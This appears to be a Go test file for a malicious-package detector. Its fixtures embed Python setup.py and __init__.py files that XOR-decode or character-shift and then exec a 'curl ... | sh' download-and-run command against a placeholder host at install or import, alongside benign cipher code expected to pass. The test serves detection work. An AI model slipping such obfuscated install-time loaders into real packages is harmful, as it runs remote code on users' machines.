package analyze

import (
	"fmt"
	"strings"
	"testing"
)

// pyHexBytes renders b as a Python bytes literal of \x escapes.
func pyHexBytes(b []byte) string {
	var s strings.Builder
	s.WriteString(`b"`)
	for _, c := range b {
		fmt.Fprintf(&s, `\x%02x`, c)
	}
	s.WriteString(`"`)
	return s.String()
}

func xorWithKey(s, key string) []byte {
	out := make([]byte, len(s))
	for i := range len(s) {
		out[i] = s[i] ^ key[i%len(key)]
	}
	return out
}

// Payloads hidden by ciphers the evaluator folds, next to code that
// applies the same ciphers to data.
func TestCipherBehaviours(t *testing.T) {
	payload := "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"
	shifted := strings.Map(func(r rune) rune { return r + 1 }, "curl -s https://example.invalid/i.sh | sh")
	tests := []verdictCase{
		{"XOR with a repeating key, run at install", map[string]string{"setup.py": "k = b'sg3'\nd = " + pyHexBytes(xorWithKey(payload, "sg3")) +
			"\nexec(bytes(c ^ k[i % len(k)] for i, c in enumerate(d)))\n"}, "exec-obfuscated", Malicious},
		{"XOR loop in a helper, run on import", map[string]string{"p/__init__.py": "def _d(data, key):\n    out = ''\n    for i in range(len(data)):\n        out += chr(data[i] ^ key)\n    return out\nexec(_d(" +
			pyHexBytes(xorWithKey(payload, "\x21")) + ", 0x21))\n"}, "exec-obfuscated", Malicious},
		{"shifted command run at install", map[string]string{"setup.py": "import os\nos.system(''.join(chr(ord(c) - 1) for c in '" + shifted + "'))\n"}, "download-execute", Malicious},
		{"websocket frame masking", map[string]string{"p/ws.py": "import os\ndef mask(data):\n    key = os.urandom(4)\n    return key + bytes(b ^ key[i % 4] for i, b in enumerate(data))\n"}, "", Clean},
		{"a table of shifted letters", map[string]string{"p/rot.py": "ALPHA = 'abcdefghijklmnopqrstuvwxyz'\nSHIFTED = ''.join(chr(ord(c) + 1) for c in ALPHA)\ndef encode(s):\n    return s.translate(str.maketrans(ALPHA, SHIFTED))\n"}, "", Clean},
	}
	runVerdictCases(t, tests, nil)
}
